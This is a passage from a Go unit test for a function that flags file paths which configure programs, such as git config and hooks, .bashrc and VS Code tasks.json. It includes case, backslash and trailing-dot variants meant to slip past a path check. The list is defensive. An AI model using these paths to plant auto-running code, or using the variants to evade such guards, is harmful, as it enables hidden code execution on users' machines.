		}
	}
}

func TestConfiguresPrograms(t *testing.T) {
	for p, want := range map[string]bool{
		".git/config": true, "a/b/.git/hooks/x": true, ".GIT/config": true, ".git": true, ".gitattributes": true,
		"x/.bashrc": true, ".vscode/tasks.json": true, "git/config": false, "src/.gitignore": false,
		"a.git/x": false, "main.go": false, "Makefile": false, `sub\.git\config`: true, ".git./config": true,
	} {
		if _, got := ConfiguresPrograms(p); got != want {
			t.Errorf("%q: %v, want %v", p, got, want)
		}
	}
}
